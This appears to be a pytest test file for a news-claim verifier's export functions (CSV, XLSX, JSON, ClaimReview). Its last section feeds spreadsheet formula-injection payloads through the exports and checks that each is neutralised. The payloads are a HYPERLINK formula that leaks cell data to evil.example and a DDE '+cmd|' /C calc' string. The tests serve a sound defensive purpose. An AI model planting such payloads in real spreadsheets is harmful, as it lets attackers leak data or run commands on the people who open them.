"""Exports read back: CSV and XLSX through pandas, JSON, and ClaimReview JSON-LD against its JSON Schema."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path
from typing import Any

import jsonschema
import openpyxl
import pandas as pd
import pytest
from test_events import crash_event
from test_scan import BAY_HERALD, CAPITAL_DAILY, CRASH

from verifier.errors import InputError
from verifier.export import FORMATS, claim_reviews, export, export_bytes, flagged_pairs, spreadsheet_cell
from verifier.scan import review, scan_new
from verifier.workspace import Workspace

SCHEMA = json.loads((Path(__file__).parent / "schemas" / "claimreview.schema.json").read_text("utf-8"))


@pytest.fixture
def flagged(workspace: Workspace) -> Workspace:
    """The bus-crash articles scanned: two flagged pairs (Capital Daily's 22 against 9 twice)."""
    workspace.ingest_articles(CRASH)
    scan_new(workspace)
    assert len(flagged_pairs(workspace)) == 2
    return workspace


PAIR_COLUMNS = {
    "id", "relation", "score", "explanation", "status", "note", "reviewed_at",
    "a_text", "a_source", "a_date", "a_title", "a_url", "a_article_id", "a_claim_id",
    "b_text", "b_source", "b_date", "b_title", "b_url", "b_article_id", "b_claim_id",
}  # fmt: skip


def test_csv_reads_back_through_pandas(flagged: Workspace) -> None:
    frame = pd.read_csv(io.BytesIO(export_bytes(flagged, "csv")))
    assert set(frame.columns) == PAIR_COLUMNS
    assert len(frame) == 2
    assert set(frame["a_source"]) | set(frame["b_source"]) == {"Bay Herald", "Capital Daily", "Coast FM"}
    assert set(frame["status"]) == {"new"}


def test_xlsx_reads_back_through_pandas(flagged: Workspace, tmp_path: Path) -> None:
    out = tmp_path / "pairs.xlsx"
    export(flagged, "xlsx", out)
    frame = pd.read_excel(out, sheet_name="contradictions")
    assert set(frame.columns) == PAIR_COLUMNS
    assert sorted(frame["id"]) == sorted(p.id for p in flagged_pairs(flagged))


def test_json_reads_back(flagged: Workspace) -> None:
    buf = io.BytesIO()
    export(flagged, "json", buf)
    rows = json.loads(buf.getvalue())
    assert [r["id"] for r in rows] == [p.id for p in flagged_pairs(flagged)]
    assert all(r["relation"] == "conflict" for r in rows)


def test_claimreview_validates_and_follows_review_decisions(flagged: Workspace) -> None:
    first, second = flagged_pairs(flagged)
    review(flagged, first.id, "confirm", note="the county police confirmed nine dead")
    review(flagged, second.id, "dismiss")
    reviews = json.loads(export_bytes(flagged, "claimreview"))
    jsonschema.validate(reviews, SCHEMA)
    assert len(reviews) == 1  # the dismissed pair is not published as a review
    [cr] = reviews
    assert cr["@type"] == "ClaimReview" and cr["identifier"] == first.id
    assert cr["claimReviewed"] == first.a.text
    assert cr["itemReviewed"]["author"] == {"@type": "Organization", "name": first.a.source}
    assert cr["itemReviewed"]["datePublished"] == "2021-06-07"
    assert cr["reviewRating"]["alternateName"] == "Confirmed conflict"
    assert cr["author"]["name"] == "verifier"
    assert "the county police confirmed nine dead" in cr["reviewBody"]


def test_claimreview_of_unreviewed_pairs_says_conflicting_figures(flagged: Workspace) -> None:
    reviews = claim_reviews(flagged)
    jsonschema.validate(reviews, SCHEMA)
    assert [r["reviewRating"]["alternateName"] for r in reviews] == ["Conflicting figures"] * 2
    with_url = [r for r in reviews if "url" in r["itemReviewed"]["appearance"][0]]
    assert with_url and all(
        a["url"].startswith("https://test.example/")
        for r in with_url
        for a in r["itemReviewed"]["appearance"]
    )


def test_the_schema_rejects_a_review_without_its_claim(flagged: Workspace) -> None:
    [broken, *_] = claim_reviews(flagged)
    del broken["claimReviewed"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate([broken], SCHEMA)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_event_table_exports(workspace: Workspace, fmt: str) -> None:
    event = crash_event(workspace)
    data = export_bytes(workspace, fmt, event_id=event.id)
    if fmt == "csv":
        frame = pd.read_csv(io.BytesIO(data))
    elif fmt == "xlsx":
        frame = pd.read_excel(io.BytesIO(data), sheet_name="event")
    else:
        frame = pd.DataFrame(json.loads(data))
    assert {"measure", "group", "source", "figure", "date", "attribution", "conflict"} <= set(frame.columns)
    killed = frame[frame["measure"] == "killed"]
    assert set(killed["figure"]) == {"9", "Twenty-two", "Nine"}


def test_empty_exports_still_have_a_header(workspace: Workspace) -> None:
    assert export_bytes(workspace, "csv") == b"id\r\n"
    assert json.loads(export_bytes(workspace, "json")) == []
    assert json.loads(export_bytes(workspace, "claimreview")) == []


def test_unknown_format_and_claimreview_of_an_event_are_refused(flagged: Workspace) -> None:
    with pytest.raises(InputError, match="use one of csv, xlsx, json, claimreview"):
        export_bytes(flagged, "pdf")
    with pytest.raises(InputError, match="drop --event"):
        export_bytes(flagged, "claimreview", event_id="x")
    assert FORMATS == ("csv", "xlsx", "json", "claimreview")


# -- spreadsheet safety ---------------------------------------------------------------------------------

# An outlet that would open a link carrying another cell's content, a title a spreadsheet would sum, and a
# reviewer's note it would run: each must reach the sheet as the text it is.
LINK_FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Open source")'
SUM_TITLE = "@SUM(1+1)"
COMMAND_NOTE = "+cmd"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+cmd", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("-10", "-10"),  # a negative figure is a number, not a formula
        ("+3", "+3"),
        ("1,200.5", "1,200.5"),
        ("Twenty-two", "Twenty-two"),
        ("a sum = 4", "a sum = 4"),  # only the first character makes a formula
        ("", ""),
        (22, 22),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_spreadsheet_cell(value: Any, cell: Any) -> None:
    assert spreadsheet_cell(value) == cell


@pytest.fixture
def hostile(workspace: Workspace) -> Workspace:
    """The bus-crash articles with a formula for an outlet and a title, scanned; every pair noted `+cmd`."""
    articles = [
        dataclasses.replace(a, source=LINK_FORMULA, title=SUM_TITLE) if a.id == CAPITAL_DAILY.id else a
        for a in CRASH
    ]
    workspace.ingest_articles(articles)
    scan_new(workspace)
    for pair in flagged_pairs(workspace):
        review(workspace, pair.id, "confirm", note=COMMAND_NOTE)
    return workspace


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def xlsx_rows(data: bytes) -> tuple[list[dict[str, Any]], set[str]]:
    """The rows of the first sheet, and the data types of every cell ('f' would be a live formula)."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = list(sheet.iter_rows())
    header = [c.value for c in cells[0]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in cells[1:]]
    return rows, {c.data_type for row in cells for c in row}


def test_formulas_reach_the_csv_as_text(hostile: Workspace) -> None:
    rows = csv_rows(export_bytes(hostile, "csv"))
    assert len(rows) == 2
    for row in rows:
        side = "a" if row["a_article_id"] == CAPITAL_DAILY.id else "b"
        assert row[f"{side}_source"] == "'" + LINK_FORMULA
        assert row[f"{side}_title"] == "'" + SUM_TITLE
        assert row["note"] == "'" + COMMAND_NOTE
        assert float(row["score"]) > 0  # numbers stay numbers
    assert not [v for row in rows for v in row.values() if v.startswith(("=", "+", "-", "@"))]


def test_formulas_reach_the_xlsx_as_text(hostile: Workspace) -> None:
    rows, types = xlsx_rows(export_bytes(hostile, "xlsx"))
    assert "f" not in types  # no cell is a formula
    sources = {r["a_source"] for r in rows} | {r["b_source"] for r in rows}
    titles = {r["a_title"] for r in rows} | {r["b_title"] for r in rows}
    assert "'" + LINK_FORMULA in sources and "'" + SUM_TITLE in titles
    assert {r["note"] for r in rows} == {"'" + COMMAND_NOTE}
    assert all(isinstance(r["score"], float) for r in rows)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_event_table_neutralises_the_outlet_but_not_the_figures(workspace: Workspace, fmt: str) -> None:
    workspace.ingest_articles([dataclasses.replace(CAPITAL_DAILY, source=LINK_FORMULA)])
    event = crash_event(workspace)
    data = export_bytes(workspace, fmt, event_id=event.id)
    rows = csv_rows(data) if fmt == "csv" else xlsx_rows(data)[0]
    killed = {(r["source"], r["figure"]) for r in rows if r["measure"] == "killed"}
    assert ("'" + LINK_FORMULA, "Twenty-two") in killed
    assert ("Bay Herald", "9") in killed


def test_xlsx_export_of_text_with_control_characters(workspace: Workspace) -> None:
    # A terminal escape and a NUL in an article: XML cannot hold them, and one must not hide a formula.
    noisy = dataclasses.replace(BAY_HERALD, source="\x00=1+2", title="Bay \x1b[31mHerald")
    workspace.ingest_articles([noisy, *CRASH[1:]])
    scan_new(workspace)
    rows, types = xlsx_rows(export_bytes(workspace, "xlsx"))
    assert "f" not in types
    assert "'=1+2" in {r["a_source"] for r in rows} | {r["b_source"] for r in rows}
    assert "Bay [31mHerald" in {r["a_title"] for r in rows} | {r["b_title"] for r in rows}
